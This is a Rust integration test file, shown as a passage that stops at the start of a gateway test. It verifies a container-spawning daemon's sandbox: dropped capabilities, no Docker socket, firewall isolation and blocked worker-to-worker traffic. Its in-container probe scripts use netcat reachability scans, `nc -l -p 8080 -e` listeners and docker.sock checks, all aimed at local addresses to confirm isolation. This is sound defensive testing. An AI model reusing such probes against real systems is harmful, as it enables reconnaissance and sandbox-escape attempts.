//! Security end to end (docs/security.md): the hardened settings of a real
//! container, network isolation of the workers, gateway enforcement,
//! redaction of secrets, hostile requests, and bounded property tests over
//! spawn payloads.
//!
//! Real `workers-spawner serve` child processes, the private redis-server and
//! the real Docker engine (scripts/test-env.sh). Network probes go ONLY to
//! this machine's own addresses, its containers and its Docker networks.

mod common;

use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use bollard::models::{ContainerCreateBody, ContainerInspectResponse, HostConfig};
use bollard::query_parameters::{
    CreateContainerOptions, InspectContainerOptions, ListContainersOptions,
};
use common::*;
use proptest::prelude::*;
use serde_json::{json, Value};

use workers_spawner::adapters::loader::{self, CatalogDirs};
use workers_spawner::model::catalog::Catalog;
use workers_spawner::model::config::ConfigSchema;
use workers_spawner::model::image_ref;
use workers_spawner::model::protocol::{
    is_valid_request_id, parse_spawn_request, scan_entry, InputLimits,
};
use workers_spawner::model::spec::Resolver;
use workers_spawner::settings::Settings;

const RESULT_TIMEOUT: Duration = Duration::from_secs(90);
const MASK: &str = "[REDACTED]";

// ---------------------------------------------------------------- helpers

/// `shell_v1` with `patch` merged in (top level), as preset `id`.
fn shell_variant(id: &str, patch: Value) -> Value {
    let mut v: Value = serde_json::from_str(
        &std::fs::read_to_string(fixture_presets().join("shell_v1.json")).unwrap(),
    )
    .unwrap();
    v["id"] = json!(id);
    for (k, val) in patch.as_object().unwrap() {
        v[k] = val.clone();
    }
    v
}

/// Presets of these tests next to the fixture presets.
fn security_presets() -> tempfile::TempDir {
    presets_dir_with(&[
        (
            "ro_v1",
            shell_variant("ro_v1", json!({"security": {"read_only_root": true}})),
        ),
        (
            "net_v1",
            shell_variant("net_v1", json!({"has_internet": true})),
        ),
        (
            "caps_v1",
            shell_variant("caps_v1", json!({"security": {"cap_add": ["NET_RAW"]}})),
        ),
        (
            "caps_admin_v1",
            shell_variant(
                "caps_admin_v1",
                json!({"security": {"cap_add": ["SYS_ADMIN"]}}),
            ),
        ),
        (
            "envx_v1",
            shell_variant(
                "envx_v1",
                json!({"env": {"MODE": "a"}, "env_overridable": ["MODE", "APP_*", "B*", "L*"]}),
            ),
        ),
    ])
}

fn shell_request(rid: &str, preset: &str, script: &str) -> Value {
    json!({
        "request_id": rid,
        "worker_config_id": preset,
        "task": { "prompt": script, "user_id": "test-user" },
    })
}

/// Waits until an event of `rid` satisfies `pred`; returns the events so far.
async fn wait_event_where(
    prefix: &str,
    rid: &str,
    timeout: Duration,
    pred: impl Fn(&Value) -> bool,
) -> Vec<Value> {
    let deadline = Instant::now() + timeout;
    loop {
        let ev = events_for(prefix, rid).await;
        if ev.iter().any(&pred) {
            return ev;
        }
        if Instant::now() > deadline {
            panic!(
                "no matching event for {rid} within {timeout:?}; events: {:#?}",
                ev
            );
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Waits for an output line of `rid` containing `needle`.
async fn wait_output(prefix: &str, rid: &str, needle: &str) -> Vec<String> {
    let ev = wait_event_where(prefix, rid, RESULT_TIMEOUT, |e| {
        e["type"] == "output"
            && e["data"]["text"]
                .as_str()
                .is_some_and(|t| t.contains(needle))
    })
    .await;
    output_lines(&ev, "stdout")
}

/// The running container of request `rid`, inspected.
async fn inspect_worker(prefix: &str, rid: &str) -> ContainerInspectResponse {
    let d = docker().await;
    let deadline = Instant::now() + RESULT_TIMEOUT;
    loop {
        let mut filters = HashMap::new();
        filters.insert(
            "label".to_string(),
            vec![
                format!("{PREFIX_LABEL}={prefix}"),
                format!("io.workers-spawner.request-id={rid}"),
            ],
        );
        let list = d
            .list_containers(Some(ListContainersOptions {
                all: true,
                filters: Some(filters),
                ..Default::default()
            }))
            .await
            .unwrap();
        if let Some(id) = list.first().and_then(|c| c.id.clone()) {
            if let Ok(c) = d
                .inspect_container(&id, None::<InspectContainerOptions>)
                .await
            {
                if c.state.as_ref().and_then(|s| s.running) == Some(true) {
                    return c;
                }
            }
        }
        assert!(
            Instant::now() < deadline,
            "no running container for {rid} within {RESULT_TIMEOUT:?}; result: {:?}",
            results_for(prefix, rid).await
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

fn env_of(c: &ContainerInspectResponse) -> Vec<String> {
    c.config
        .as_ref()
        .and_then(|c| c.env.clone())
        .unwrap_or_default()
}

fn env_value(c: &ContainerInspectResponse, key: &str) -> String {
    env_of(c)
        .iter()
        .find_map(|e| e.strip_prefix(&format!("{key}=")).map(str::to_string))
        .unwrap_or_else(|| panic!("no {key} in the container's env"))
}

/// Cancels `rid` and waits for its result.
async fn cancel(prefix: &str, rid: &str) -> Value {
    publish_control(prefix, &json!({"command": "cancel", "request_id": rid})).await;
    wait_result(prefix, rid, RESULT_TIMEOUT).await
}

/// A minimal HTTP/1.0 POST: (status, body as JSON or Null).
fn http_post(url: &str, auth: Option<&str>, body: &str) -> (u16, Value) {
    let rest = url.strip_prefix("http://").expect("http URL");
    let (addr, path) = rest
        .split_once('/')
        .map_or((rest, "/".to_string()), |(a, p)| (a, format!("/{p}")));
    let mut s = TcpStream::connect_timeout(&addr.parse().expect("ip:port"), Duration::from_secs(5))
        .unwrap_or_else(|e| panic!("cannot connect to {addr}: {e}"));
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let auth = auth
        .map(|k| format!("Authorization: Bearer {k}\r\n"))
        .unwrap_or_default();
    write!(
        s,
        "POST {path} HTTP/1.0\r\nHost: {addr}\r\n{auth}Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .unwrap();
    let mut buf = String::new();
    s.read_to_string(&mut buf).unwrap();
    let status = buf
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let body = buf.split_once("\r\n\r\n").map(|x| x.1).unwrap_or("");
    (status, serde_json::from_str(body).unwrap_or(Value::Null))
}

// ---------------------------------------------------------------- hardened defaults

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_running_worker_has_every_hardened_setting() {
    let d = Daemon::start(DaemonOpts::new("sec-hardened"));
    let rid = unique_request_id("hard");
    let script = "echo uid=$(id -u) gid=$(id -g); grep -E '^(CapEff|CapPrm|NoNewPrivs)' /proc/self/status; \
                  test -e /var/run/docker.sock && echo sock=present || echo sock=absent; echo probe-done; sleep 30";
    publish_spawn(&d.prefix, &shell_request(&rid, "shell_v1", script)).await;
    let c = inspect_worker(&d.prefix, &rid).await;
    let hc = c.host_config.clone().expect("host config");
    let cfg = c.config.clone().expect("config");

    assert_eq!(hc.cap_drop.as_deref(), Some(&["ALL".to_string()][..]));
    assert!(
        hc.cap_add.clone().unwrap_or_default().is_empty(),
        "{:?}",
        hc.cap_add
    );
    let sec = hc.security_opt.clone().unwrap_or_default();
    assert!(
        sec.iter().any(|o| o.starts_with("no-new-privileges")),
        "{sec:?}"
    );
    assert!(
        !sec.iter().any(|o| o.contains("unconfined")),
        "no profile may be switched off: {sec:?}"
    );
    assert_eq!(cfg.user.as_deref(), Some("1000:1000"));
    assert_eq!(hc.init, Some(true));
    assert_eq!(hc.pids_limit, Some(64));
    assert_eq!(hc.memory, Some(64 << 20));
    assert_eq!(hc.memory_swap, Some(64 << 20), "swap equals memory");
    assert_eq!(hc.nano_cpus, Some(1_000_000_000));
    assert_eq!(hc.privileged, Some(false));
    // Network none: the worker's way out is its egress socket (tests/egress.rs).
    let net = hc.network_mode.clone().unwrap_or_default();
    assert_eq!(net, "none");
    for (what, mode) in [
        ("pid", hc.pid_mode.clone()),
        ("ipc", hc.ipc_mode.clone()),
        ("uts", hc.uts_mode.clone()),
        ("userns", hc.userns_mode.clone()),
    ] {
        assert_ne!(
            mode.as_deref(),
            Some("host"),
            "{what} namespace is the host's"
        );
    }
    assert_eq!(hc.ipc_mode.as_deref(), Some("private"));
    assert!(
        hc.binds.clone().unwrap_or_default().is_empty(),
        "{:?}",
        hc.binds
    );
    // One mount: the worker's own egress folder, read-only.
    let mounts = c.mounts.clone().unwrap_or_default();
    assert_eq!(mounts.len(), 1, "{mounts:?}");
    assert_eq!(
        mounts[0].destination.as_deref(),
        Some("/.workers-spawner/egress"),
        "{mounts:?}"
    );
    assert_eq!(mounts[0].rw, Some(false), "{mounts:?}");
    assert!(
        !mounts[0]
            .source
            .clone()
            .unwrap_or_default()
            .contains("docker.sock"),
        "{mounts:?}"
    );
    assert!(hc.devices.clone().unwrap_or_default().is_empty());
    assert_eq!(hc.readonly_rootfs, Some(false));
    let env = env_of(&c);
    for e in &env {
        assert!(
            !e.contains("redis://")
                && !e.contains("WS_TEST_REDIS")
                && !e.starts_with("WORKERS_SPAWNER"),
            "infrastructure setting in the worker's env: {e}"
        );
    }
    assert!(!env.iter().any(|e| e.contains(&redis_url())));

    // The same, seen from inside.
    let lines = wait_output(&d.prefix, &rid, "probe-done").await;
    assert!(
        lines.contains(&"uid=1000 gid=1000".to_string()),
        "{lines:?}"
    );
    let field = |k: &str| {
        lines
            .iter()
            .find_map(|l| l.strip_prefix(k))
            .map(|v| v.trim().to_string())
            .unwrap_or_else(|| panic!("no {k} in {lines:?}"))
    };
    assert_eq!(field("CapEff:"), "0000000000000000");
    assert_eq!(field("CapPrm:"), "0000000000000000");
    assert_eq!(field("NoNewPrivs:"), "1");
    assert!(lines.contains(&"sock=absent".to_string()), "{lines:?}");
    let r = cancel(&d.prefix, &rid).await;
    assert_eq!(r["status"], "cancelled", "{r:#}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_read_only_root_keeps_workspace_home_and_tmp_writable() {
    let presets = security_presets();
    let d = Daemon::start(DaemonOpts::new("sec-readonly").presets_dir(presets.path()));
    let rid = unique_request_id("ro");
    let script = "echo w > /workspace/a && echo h > /home/worker/b && echo t > /tmp/c && echo writable-ok; \
                  if touch /etc/nope 2>/dev/null; then echo root-writable; else echo root-readonly; fi; \
                  test -s /home/worker/.orchestrator/prompt.md && echo files-ok; echo probe-done; sleep 30";
    publish_spawn(&d.prefix, &shell_request(&rid, "ro_v1", script)).await;
    let c = inspect_worker(&d.prefix, &rid).await;
    let hc = c.host_config.clone().unwrap();
    assert_eq!(hc.readonly_rootfs, Some(true));
    assert!(
        hc.tmpfs.clone().unwrap_or_default().contains_key("/tmp"),
        "{:?}",
        hc.tmpfs
    );
    assert!(hc.binds.clone().unwrap_or_default().is_empty());
    let mounts = c.mounts.clone().unwrap_or_default();
    let mut volumes = Vec::new();
    for m in &mounts {
        let dest = m.destination.clone().unwrap_or_default();
        if dest == "/.workers-spawner/egress" {
            assert_eq!(m.rw, Some(false), "the egress folder is read-only: {m:?}");
            continue;
        }
        assert_eq!(
            m.typ.as_ref().map(|t| t.to_string()).as_deref(),
            Some("volume"),
            "only anonymous volumes: {m:?}"
        );
        assert!(
            ["/workspace", "/home/worker"].contains(&dest.as_str()),
            "{m:?}"
        );
        assert!(!m.source.clone().unwrap_or_default().contains("docker.sock"));
        volumes.push(m.name.clone().unwrap());
    }
    assert_eq!(volumes.len(), 2, "{mounts:?}");
    assert_eq!(hc.cap_drop.as_deref(), Some(&["ALL".to_string()][..]));

    let lines = wait_output(&d.prefix, &rid, "probe-done").await;
    for want in ["writable-ok", "root-readonly", "files-ok"] {
        assert!(lines.contains(&want.to_string()), "{want}: {lines:?}");
    }
    let r = cancel(&d.prefix, &rid).await;
    assert_eq!(r["status"], "cancelled", "{r:#}");
    // Removing the container removes its volumes.
    let docker = docker().await;
    let deadline = Instant::now() + Duration::from_secs(20);
    for v in &volumes {
        while docker.inspect_volume(v).await.is_ok() {
            assert!(
                Instant::now() < deadline,
                "volume {v} outlived its container"
            );
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    }

    // A session under a read-only root gets its files too.
    let srid = unique_request_id("ro-sess");
    publish_spawn(
        &d.prefix,
        &json!({
            "request_id": srid, "worker_config_id": "ro_v1",
            "task": {"prompt": "cat /home/worker/.orchestrator/prompt.md; echo >> /workspace/x", "session_id": unique_request_id("s")},
        }),
    )
    .await;
    let r = wait_result(&d.prefix, &srid, RESULT_TIMEOUT).await;
    assert_eq!(r["status"], "succeeded", "{r:#}");
    assert!(
        r["output"].as_str().unwrap().contains("cat /home/worker"),
        "{r:#}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_preset_may_add_back_only_capabilities_the_daemon_allows() {
    let presets = security_presets();
    let d = Daemon::start(
        DaemonOpts::new("sec-caps")
            .presets_dir(presets.path())
            .setting("policy__allowed_cap_add", "[\"NET_RAW\"]"),
    );
    // Beyond the setting: refused, naming the field.
    let denied = unique_request_id("caps-denied");
    publish_spawn(&d.prefix, &shell_request(&denied, "caps_admin_v1", "true")).await;
    let r = wait_result(&d.prefix, &denied, RESULT_TIMEOUT).await;
    assert_eq!(r["status"], "rejected", "{r:#}");
    assert_eq!(r["error"]["field"], "security.cap_add", "{r:#}");
    assert_eq!(container_count(&d.prefix).await, 0);

    // Within it: exactly that capability comes back, all others stay dropped.
    let rid = unique_request_id("caps");
    publish_spawn(&d.prefix, &shell_request(&rid, "caps_v1", "sleep 30")).await;
    let c = inspect_worker(&d.prefix, &rid).await;
    let hc = c.host_config.unwrap();
    assert_eq!(hc.cap_drop.as_deref(), Some(&["ALL".to_string()][..]));
    assert_eq!(hc.cap_add.as_deref(), Some(&["NET_RAW".to_string()][..]));
    assert_eq!(hc.privileged, Some(false));
    let r = cancel(&d.prefix, &rid).await;
    assert_eq!(r["status"], "cancelled", "{r:#}");

    // An override may not add one either, even one the daemon allows.
    let widen = unique_request_id("caps-widen");
    let mut req = shell_request(&widen, "shell_v1", "true");
    req["worker_config_override"] = json!({"security": {"cap_add": ["NET_RAW"]}});
    publish_spawn(&d.prefix, &req).await;
    let r = wait_result(&d.prefix, &widen, RESULT_TIMEOUT).await;
    assert_eq!(r["status"], "rejected", "{r:#}");
    assert_eq!(r["error"]["field"], "security.cap_add", "{r:#}");
}

// ---------------------------------------------------------------- network

/// IPv4 addresses of this host's interfaces, loopback excluded.
fn host_addresses() -> Vec<String> {
    let out = std::process::Command::new("ip")
        .args(["-4", "-o", "addr"])
        .output()
        .expect("run `ip -4 -o addr`");
    let text = String::from_utf8_lossy(&out.stdout);
    let mut ips: Vec<String> = text
        .lines()
        .filter_map(|l| {
            let mut it = l.split_whitespace();
            it.find(|w| *w == "inet")?;
            Some(it.next()?.split('/').next()?.to_string())
        })
        .filter(|ip| !ip.starts_with("127."))
        .collect();
    ips.sort();
    ips.dedup();
    assert!(!ips.is_empty(), "no host address found:\n{text}");
    ips
}

/// Ports some firewall rule accepts (left over by other daemons).
fn accepted_ports() -> Vec<u16> {
    let out = std::process::Command::new("iptables")
        .args(["-w", "-S", "WS-WORKERS"])
        .output();
    let Ok(out) = out else { return Vec::new() };
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| {
            let mut it = l.split_whitespace();
            it.find(|w| *w == "--dport")?;
            it.next()?.parse().ok()
        })
        .collect()
}

/// A listener on every interface that accepts and closes connections.
fn host_listener() -> u16 {
    let taken = accepted_ports();
    let l = loop {
        let l = TcpListener::bind("0.0.0.0:0").expect("bind 0.0.0.0:0");
        if !taken.contains(&l.local_addr().unwrap().port()) {
            break l;
        }
    };
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming() {
            drop(s);
        }
    });
    port
}

/// A container on Docker's default bridge listening on 8080 (another
/// network than the workers'); returns its address.
async fn default_bridge_listener(prefix: &str) -> String {
    let d = docker().await;
    let name = format!("{prefix}-bridge-probe");
    let mut labels = HashMap::new();
    labels.insert(PREFIX_LABEL.to_string(), prefix.to_string());
    let body = ContainerCreateBody {
        image: Some(test_image()),
        cmd: Some(vec![
            "sh".into(),
            "-c".into(),
            "while :; do nc -l -p 8080 -e true; done".into(),
        ]),
        user: Some("1000:1000".into()),
        labels: Some(labels),
        host_config: Some(HostConfig {
            network_mode: Some("bridge".into()),
            cap_drop: Some(vec!["ALL".into()]),
            init: Some(true),
            ..Default::default()
        }),
        ..Default::default()
    };
    let id = d
        .create_container(
            Some(CreateContainerOptions {
                name: Some(name),
                ..Default::default()
            }),
            body,
        )
        .await
        .expect("create the probe container")
        .id;
    d.start_container(
        &id,
        None::<bollard::query_parameters::StartContainerOptions>,
    )
    .await
    .expect("start the probe container");
    let c = d
        .inspect_container(&id, None::<InspectContainerOptions>)
        .await
        .unwrap();
    let ip = c
        .network_settings
        .and_then(|n| n.networks)
        .and_then(|n| n.get("bridge").and_then(|b| b.ip_address.clone()))
        .filter(|ip| !ip.is_empty())
        .expect("the probe has an address on the default bridge");
    // Positive control: the host reaches it, so "closed" from a worker means isolation.
    let deadline = Instant::now() + Duration::from_secs(10);
    while TcpStream::connect_timeout(
        &format!("{ip}:8080").parse().unwrap(),
        Duration::from_secs(1),
    )
    .is_err()
    {
        assert!(
            Instant::now() < deadline,
            "the probe on {ip}:8080 never listened"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    ip
}

fn redis_port() -> u16 {
    let url = redis_url();
    let hostport = url
        .trim_start_matches("redis://")
        .split('/')
        .next()
        .unwrap()
        .rsplit('@')
        .next()
        .unwrap()
        .to_string();
    hostport.rsplit(':').next().unwrap().parse().unwrap()
}

/// The probe script: every target as `open T` or `closed T`, then the gateway.
fn probe_script(targets: &[String]) -> String {
    let mut s = String::new();
    for t in targets {
        let (ip, port) = t.rsplit_once(':').unwrap();
        s.push_str(&format!(
            "if echo | nc -w 2 {ip} {port} >/dev/null 2>&1; then echo \"open {t}\"; else echo \"closed {t}\"; fi\n"
        ));
    }
    s.push_str(
        "echo \"gateway=$(wget -qO- --post-data '{\"args\":{\"message\":\"hi from the probe\"}}' \
         --header \"Authorization: Bearer $ORCHESTRATOR_API_KEY\" \"$ORCHESTRATOR_API_URL/v1/tools/respond/send\")\"\n",
    );
    s
}

async fn probe(d: &Daemon, preset: &str, targets: &[String]) -> (Value, Vec<String>) {
    let rid = unique_request_id(&format!("probe-{preset}"));
    publish_spawn(
        &d.prefix,
        &shell_request(&rid, preset, &probe_script(targets)),
    )
    .await;
    // Up to 2 s per blocked target, on a shared and busy machine.
    let r = wait_result(&d.prefix, &rid, Duration::from_secs(180)).await;
    assert_eq!(r["status"], "succeeded", "{r:#}");
    let lines: Vec<String> = r["output"]
        .as_str()
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect();
    (r, lines)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn workers_reach_the_gateway_but_not_the_host_redis_or_other_networks() {
    let presets = security_presets();
    // The bridge path (tests/egress.rs covers the socket path).
    let d = Daemon::start(
        DaemonOpts::new("sec-net")
            .presets_dir(presets.path())
            .setting("worker_egress", "bridge"),
    );
    let port = host_listener();
    let rport = redis_port();
    let mut targets = Vec::new();
    for ip in host_addresses() {
        // Positive control: the listener answers on this address from the host.
        TcpStream::connect_timeout(
            &format!("{ip}:{port}").parse().unwrap(),
            Duration::from_secs(2),
        )
        .unwrap_or_else(|e| panic!("the test listener is not reachable on {ip}:{port}: {e}"));
        targets.push(format!("{ip}:{port}"));
        targets.push(format!("{ip}:{rport}"));
    }
    let other = default_bridge_listener(&d.prefix).await;
    targets.push(format!("{other}:8080"));

    for preset in ["shell_v1", "net_v1"] {
        let (r, lines) = probe(&d, preset, &targets).await;
        for t in &targets {
            assert!(
                lines.contains(&format!("closed {t}")),
                "{preset} (has_internet={}) reached {t}: {lines:#?}",
                preset == "net_v1"
            );
        }
        let gw = lines
            .iter()
            .find_map(|l| l.strip_prefix("gateway="))
            .unwrap_or_default();
        let gw: Value = serde_json::from_str(gw)
            .unwrap_or_else(|_| panic!("{preset} did not reach its gateway: {lines:#?}"));
        assert_eq!(gw["ok"], true, "{gw}");
        let rid = r["request_id"].as_str().unwrap();
        let ev = events_for(&d.prefix, rid).await;
        let respond: Vec<&Value> = ev.iter().filter(|e| e["type"] == "respond").collect();
        assert_eq!(respond.len(), 1, "{ev:#?}");
        assert_eq!(respond[0]["data"]["message"], "hi from the probe");
        assert_eq!(respond[0]["request_id"], rid);
    }
}

/// The gateway rules of `prefix` in the WS-WORKERS chain (read only).
fn gateway_rules_of(prefix: &str) -> Vec<workers_spawner::adapters::firewall::GatewayRule> {
    let out = std::process::Command::new("iptables")
        .args(["-w", "-S", workers_spawner::adapters::firewall::CHAIN])
        .output()
        .expect("run iptables -S");
    workers_spawner::adapters::firewall::parse_listing(&String::from_utf8_lossy(&out.stdout))
        .rules
        .into_iter()
        .filter(|r| r.owner.prefix == prefix)
        .collect()
}

async fn wait_rules(
    prefix: &str,
    what: &str,
    pred: impl Fn(&[workers_spawner::adapters::firewall::GatewayRule]) -> bool,
) {
    let deadline = Instant::now() + Duration::from_secs(40);
    loop {
        let rules = gateway_rules_of(prefix);
        if pred(&rules) {
            return;
        }
        assert!(Instant::now() < deadline, "{what}: {rules:#?}");
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}

/// Issue #14, 5: a daemon's gateway hole in the host firewall does not
/// outlive it. Each rule names its owner and stops matching a minute after
/// its last rewrite; a `kill -9`ed daemon's rules go as soon as another
/// instance of its setup sees its heartbeat gone; a listener opened later
/// on the dead daemon's port is unreachable from workers; a clean shutdown
/// removes the rules at once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gateway_firewall_rules_do_not_outlive_their_daemon() {
    use workers_spawner::adapters::firewall::RULE_TTL;
    let mut d1 = Daemon::start(DaemonOpts::new("sec-fw"));
    let prefix = d1.prefix.clone();
    let (i1, port1) = (d1.instance_id.clone(), d1.gateway_port);
    wait_rules(&prefix, "the first daemon's rules", |r| {
        r.iter()
            .filter(|r| r.owner.instance == i1 && r.port == port1)
            .count()
            == 2
    })
    .await;
    let now = chrono::Utc::now().timestamp();
    for r in gateway_rules_of(&prefix) {
        assert!(
            r.until <= now + RULE_TTL.as_secs() as i64 + 2,
            "a rule that matches past its owner's next rewrite: {r:?}"
        );
    }
    // kill -9: nothing removes its rules on the way out...
    d1.cleanup_on_drop = false;
    let pid = d1.pid().unwrap();
    // SAFETY: kill(2) on our own child.
    unsafe {
        libc::kill(pid as libc::pid_t, libc::SIGKILL);
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(
        gateway_rules_of(&prefix)
            .iter()
            .filter(|r| r.owner.instance == i1)
            .count(),
        2,
        "still there right after the kill"
    );
    // ...until its heartbeat is gone (here at once instead of in 30 s) and
    // another instance of the setup looks.
    let mut c = redis_conn().await;
    let _: () = redis::cmd("DEL")
        .arg(format!("{prefix}:instance:{i1}"))
        .query_async(&mut c)
        .await
        .unwrap();
    let mut d2 = Daemon::start(DaemonOpts::new("sec-fw").prefix(&prefix));
    let (i2, port2) = (d2.instance_id.clone(), d2.gateway_port);
    wait_rules(&prefix, "the dead daemon's rules are removed", |r| {
        !r.iter().any(|r| r.owner.instance == i1)
            && r.iter()
                .filter(|r| r.owner.instance == i2 && r.port == port2)
                .count()
                == 2
    })
    .await;
    // Someone listens on the dead daemon's port on the workers' bridge.
    let ip = internal_gateway_ip().await;
    let l = TcpListener::bind((ip.as_str(), port1)).expect("bind the dead daemon's port");
    std::thread::spawn(move || {
        for s in l.incoming() {
            drop(s);
        }
    });
    TcpStream::connect_timeout(
        &format!("{ip}:{port1}").parse().unwrap(),
        Duration::from_secs(2),
    )
    .expect("positive control: the host reaches the listener");
    let (_, lines) = probe(&d2, "shell_v1", &[format!("{ip}:{port1}")]).await;
    assert!(
        lines.contains(&format!("closed {ip}:{port1}")),
        "a worker reached the dead daemon's port: {lines:#?}"
    );
    let gw = lines
        .iter()
        .find_map(|l| l.strip_prefix("gateway="))
        .unwrap_or_default();
    assert!(
        gw.contains("\"ok\":true"),
        "its own gateway works: {lines:#?}"
    );
    // A clean shutdown removes its rules at once.
    assert!(d2.terminate().is_some());
    assert!(
        gateway_rules_of(&prefix).is_empty(),
        "{:#?}",
        gateway_rules_of(&prefix)
    );
    cleanup_containers(&prefix).await;
}

/// Inter-container communication on `network`: (its `enable_icc` option,
/// its bridge interface).
async fn network_icc(network: &str) -> (Option<String>, String) {
    let net = docker()
        .await
        .inspect_network(
            network,
            None::<bollard::query_parameters::InspectNetworkOptions>,
        )
        .await
        .unwrap_or_else(|e| panic!("network {network}: {e}"));
    let opts = net.options.unwrap_or_default();
    let bridge = opts
        .get("com.docker.network.bridge.name")
        .cloned()
        .unwrap_or_else(|| format!("br-{}", &net.id.unwrap_or_default()[..12]));
    (
        opts.get("com.docker.network.bridge.enable_icc").cloned(),
        bridge,
    )
}

fn docker_user_rules() -> String {
    let out = std::process::Command::new("iptables")
        .args(["-w", "-S", "DOCKER-USER"])
        .output()
        .expect("iptables -S DOCKER-USER");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Worker A listens on 8080 (and shows it answers on loopback: the host
/// cannot be the positive control, the INPUT chain drops what a worker
/// sends it); worker B, on the same network, tries to reach it. Returns
/// B's output.
async fn worker_to_worker(d: &Daemon) -> String {
    let a = unique_request_id("icc-a");
    let listen = "(while :; do nc -l -p 8080 -e echo pong; done) & \
                  until echo | nc -w 1 127.0.0.1 8080 2>/dev/null | grep -q pong; do sleep 0.2; done; \
                  echo listening-ok; wait";
    publish_spawn(&d.prefix, &shell_request(&a, "shell_v1", listen)).await;
    let c = inspect_worker(&d.prefix, &a).await;
    let ip = c
        .network_settings
        .and_then(|n| n.networks)
        .and_then(|n| {
            n.into_values()
                .find_map(|e| e.ip_address.filter(|ip| !ip.is_empty()))
        })
        .expect("worker A has an address");
    wait_output(&d.prefix, &a, "listening-ok").await;
    let b = unique_request_id("icc-b");
    let script = format!(
        "if echo | nc -w 3 {ip} 8080 >/dev/null 2>&1; then echo \"reached {ip}\"; else echo \"closed {ip}\"; fi"
    );
    publish_spawn(&d.prefix, &shell_request(&b, "shell_v1", &script)).await;
    let r = wait_result(&d.prefix, &b, RESULT_TIMEOUT).await;
    assert_eq!(r["status"], "succeeded", "{r:#}");
    cancel(&d.prefix, &a).await;
    r["output"].as_str().unwrap().to_string()
}

/// Removes the test's networks (no container uses them any more).
async fn remove_networks(names: &[String]) {
    let d = docker().await;
    for n in names {
        let _ = d.remove_network(n).await;
    }
}

/// Removes the networks a test made when it ends, however it ends
/// (declared before the daemon, so it drops after the daemon's clean-up).
struct Networks(Vec<String>);

impl Drop for Networks {
    fn drop(&mut self) {
        let names = self.0.clone();
        let _ = std::thread::spawn(move || {
            if let Ok(rt) = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
            {
                rt.block_on(remove_networks(&names));
            }
        })
        .join();
    }
}

/// Decision (issue #14): workers on one network do not reach each other.
/// The daemon makes its networks with `enable_icc=false`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn workers_on_one_network_do_not_reach_each_other() {
    let base = format!("wstest-icc-{}", random_suffix());
    let nets = vec![base.clone(), format!("{base}-internal")];
    let _cleanup = Networks(nets.clone());
    let d = Daemon::start(
        DaemonOpts::new("sec-icc")
            .setting("worker_network", &base)
            .setting("worker_egress", "bridge"),
    );
    for n in &nets {
        assert_eq!(network_icc(n).await.0.as_deref(), Some("false"), "{n}");
    }
    let out = worker_to_worker(&d).await;
    assert!(out.contains("closed "), "worker B reached worker A: {out}");
}

/// Decision (issue #14): a workers' network an older daemon made (Docker's
/// default, ICC on) keeps its options, so the daemon drops traffic between
/// its containers in DOCKER-USER instead; the rule goes with the bridge.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_network_made_with_icc_on_gets_its_workers_kept_apart_by_the_firewall() {
    let base = format!("wstest-icc-old-{}", random_suffix());
    let nets = vec![base.clone(), format!("{base}-internal")];
    let _cleanup = Networks(nets.clone());
    let docker = docker().await;
    for (n, internal) in [(&nets[0], false), (&nets[1], true)] {
        docker
            .create_network(bollard::models::NetworkCreateRequest {
                name: n.clone(),
                driver: Some("bridge".into()),
                internal: Some(internal),
                ..Default::default()
            })
            .await
            .unwrap();
    }
    let d = Daemon::start(
        DaemonOpts::new("sec-icc-old")
            .setting("worker_network", &base)
            .setting("worker_egress", "bridge"),
    );
    let mut bridges = Vec::new();
    for n in &nets {
        let (icc, bridge) = network_icc(n).await;
        assert_eq!(icc, None, "{n} keeps its options");
        let rules = docker_user_rules();
        assert!(
            rules
                .lines()
                .any(|l| l.contains(&format!("-i {bridge} -o {bridge}")) && l.ends_with("-j DROP")),
            "no DOCKER-USER rule for {bridge}:\n{rules}"
        );
        bridges.push(bridge);
    }
    let out = worker_to_worker(&d).await;
    assert!(out.contains("closed "), "worker B reached worker A: {out}");
    // Once the network is gone, the daemon sweeps the rules of its bridge
    // (its own gateway rules go when it stops).
    cleanup_containers(&d.prefix).await;
    remove_networks(&nets).await;
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let user = docker_user_rules();
        let workers = String::from_utf8_lossy(
            &std::process::Command::new("iptables")
                .args(["-w", "-S", "WS-WORKERS"])
                .output()
                .unwrap()
                .stdout,
        )
        .into_owned();
        let static_rule =
            |l: &str, b: &str| l.contains(&format!("-i {b} ")) && l.ends_with("-j DROP");
        if !bridges.iter().any(|b| {
            user.lines().any(|l| static_rule(l, b)) || workers.lines().any(|l| static_rule(l, b))
        }) {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "rules of the removed bridges {bridges:?} stayed:\n{user}\n{workers}"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    drop(d);
}

// ---------------------------------------------------------------- gateway

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_gateway_enforces_allowed_tools_and_worker_keys() {
    let d = Daemon::start(DaemonOpts::new("sec-gateway"));
    let rid = unique_request_id("gw");
